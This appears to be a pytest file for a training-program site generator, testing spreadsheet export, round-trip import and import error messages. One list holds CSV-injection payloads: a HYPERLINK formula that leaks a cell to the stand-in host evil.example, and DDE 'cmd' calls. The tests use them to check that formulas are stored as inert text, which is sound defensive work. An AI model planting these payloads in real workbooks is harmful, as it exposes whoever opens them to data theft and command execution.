"""Programs to and from a spreadsheet: the export stakeholders read, and the round trip."""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from lchc_gen.cli import main
from lchc_gen.programs.load import load_programs
from lchc_gen.programs.model import Series
from lchc_gen.tabular.formulas import cell_text
from tests.conftest import build_site


def _cli(root: Path, *args: str) -> int:
    before = Path.cwd()
    os.chdir(root)
    try:
        return main(list(args))
    finally:
        os.chdir(before)


def _pages(site: Path) -> dict[str, bytes]:
    """Every generated program file; calendars without DTSTAMP (the time they were made)."""
    return {
        p.relative_to(site).as_posix(): re.sub(rb"DTSTAMP:\d{8}T\d{6}Z", b"DTSTAMP", p.read_bytes())
        for p in (site / "programs").rglob("*") if p.is_file()
    }


def test_export_then_import_builds_the_same_pages(make_site, capsys) -> None:
    root = make_site(copy_demo=True)
    before = _pages(build_site(root))
    assert _cli(root, "programs", "export", "--format", "xlsx", "--out", "programs.xlsx") == 0
    assert _cli(root, "programs", "import", "programs.xlsx", "--out", "imported") == 0
    assert "wrote imported/sales-discovery-calls.yml: 2 sessions" in capsys.readouterr().out
    shutil.rmtree(root / "programs")
    (root / "imported").rename(root / "programs")
    shutil.rmtree(root / "site")
    after = _pages(build_site(root))
    assert len(before) > 10 and before.keys() == after.keys()
    assert [k for k in before if before[k] != after[k]] == []


def test_the_export_shows_every_occurrence_in_each_location(make_site) -> None:
    root = make_site(copy_demo=True)
    assert _cli(root, "programs", "export", "--out", "book.xlsx") == 0
    book = load_workbook(root / "book.xlsx")
    programs = {lp.program.id: lp for lp in load_programs(root / "programs", root)}
    support = book["support-onboarding"]
    rows = list(support.iter_rows(min_row=4, values_only=True))
    assert len(rows) == len(programs["support-onboarding"].occurrences)
    header = [c.value for c in support[3]]
    assert header[:3] == ["date", "session", "time (Europe/Dublin)"] and "time in Manila (outsourcing partner)" in header
    manila = header.index("time in Manila (outsourcing partner)")
    assert rows[0][2].startswith("08:00\u201310:00 Dublin time") and rows[0][manila].startswith("16:00\u201318:00 Manila time (UTC+8)")
    why = header.index("why then")
    assert all(r[why] for r in rows)
    floor = list(book["Time off the floor"].iter_rows(values_only=True))
    assert ("support-onboarding", "Dublin") in {(r[0], r[1]) for r in floor}
    hours = [r[3] for r in floor if r[0] == "support-onboarding" and r[1] == "Dublin"]
    assert sum(hours) * 60 == pytest.approx(sum(o.duration_minutes for o in programs["support-onboarding"].occurrences if not o.cancelled))
    assert any(r[0] == "sales-discovery-calls" and r[3] and "(Europe/Berlin)" in str(r[3]) for r in floor)  # when the cohort finishes
    documented = {r[0]: r[1] for r in book["Columns"].iter_rows(min_row=2, values_only=True)}
    assert documented["rationale"] == Series.model_fields["rationale"].description
    assert "Comma-separated" in documented["weekdays"] and "YAML list" in documented["overrides"]


def test_import_problems_name_file_sheet_row_and_column(make_site, capsys) -> None:
    root = make_site(copy_demo=True)
    assert _cli(root, "programs", "export", "--out", "book.xlsx") == 0
    book = load_workbook(root / "book.xlsx")
    ws = book["Sessions"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("start") + 1, value="9 o'clock")
    ws.cell(row=3, column=header.index("program") + 1, value="sales-discovery-cals")
    ws.cell(row=4, column=header.index("weekdays") + 1, value="MO, XX")
    ws.cell(row=1, column=len(header) + 1, value="room size")
    book.save(root / "book.xlsx")
    capsys.readouterr()
    assert _cli(root, "programs", "import", "book.xlsx", "--out", "imported") == 1
    err = capsys.readouterr().err
    assert "book.xlsx:Sessions:2:start: " in err
    assert "book.xlsx:Sessions:3:program: unknown program 'sales-discovery-cals'" in err
    assert "book.xlsx:Sessions:4:weekdays: expected a weekday" in err
    assert "book.xlsx:Sessions:1:room size: unknown column" in err
    assert not (root / "imported").exists()  # nothing half-written


# Formula payloads (OWASP: CSV injection) in every text field a workbook shows or round-trips.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A3,"Click for agenda")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _formula_program() -> str:
    f = FORMULAS
    data = {
        "id": "formula-program", "title": f[0], "summary": f[1], "status": "draft", "owner": f[2],
        "timezone": "Europe/Berlin",
        "audience": {"description": f[3], "why_this_group": f[4],
                     "locations": [{"name": f[5], "timezone": "Europe/Berlin", "working_hours": "08:00-18:00"}]},
        "objectives": [{"id": "know-one", "domain": "know", "text": f[6]}],
        "facilitators": [{"id": "ana", "name": f[0], "role": f[1]}, {"id": "ben", "name": f[2], "role": f[3]}],
        "sessions": [
            {"id": "weekly", "title": f[3], "weekdays": ["TU"], "first_date": "2027-10-12", "count": 2,
             "start": "09:00", "duration": 60, "facilitators": ["ana", "ben"], "objectives": ["know-one"],
             "rationale": f[4], "description": f[5], "location": f[6], "cohort": f[0], "format": "in person"},
            {"id": "once", "title": f[1], "date": "2027-10-20", "start": "10:00", "duration": 30,
             "facilitators": ["ben"], "rationale": f[2], "cohort": "=1+1", "location": f[3]},
        ],
    }
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


def test_formula_payloads_are_text_cells_and_import_reads_them_back_unchanged(make_site, capsys) -> None:
    root = make_site({"formula-program.yml": _formula_program()})
    source = yaml.safe_load((root / "programs" / "formula-program.yml").read_text())
    assert _cli(root, "programs", "export", "--out", "book.xlsx") == 0
    book = load_workbook(root / "book.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {cell_text(c.value): c for c in cells if isinstance(c.value, str)}  # "\r" is written _x000D_
    assert set(FORMULAS) <= {*texts, *(x for t in texts for x in t.split(", "))}  # facilitators are joined
    assert all(texts[f].quotePrefix for f in FORMULAS if f in texts)  # editing the cell keeps it text
    assert book["formula-program"]["A1"].value == FORMULAS[0]
    assert _cli(root, "programs", "import", "book.xlsx", "--out", "imported") == 0
    imported = yaml.safe_load((root / "imported" / "formula-program.yml").read_text())
    assert imported == source  # every text, the cohort "=1+1" included, exactly as it was


def test_a_formula_typed_into_the_sessions_sheet_is_a_problem_not_a_lost_value(make_site, capsys) -> None:
    root = make_site(copy_demo=True)
    assert _cli(root, "programs", "export", "--out", "book.xlsx") == 0
    book = load_workbook(root / "book.xlsx")
    ws = book["Sessions"]
    header = [c.value for c in ws[1]]
    ws.cell(row=3, column=header.index("cohort") + 1, value="=1+1")  # openpyxl stores it as a formula
    book.save(root / "book.xlsx")
    capsys.readouterr()
    assert _cli(root, "programs", "import", "book.xlsx", "--out", "imported") == 1
    err = capsys.readouterr().err
    assert "book.xlsx:Sessions:3:cohort: a formula (=1+1)" in err, err
    assert not (root / "imported").exists()
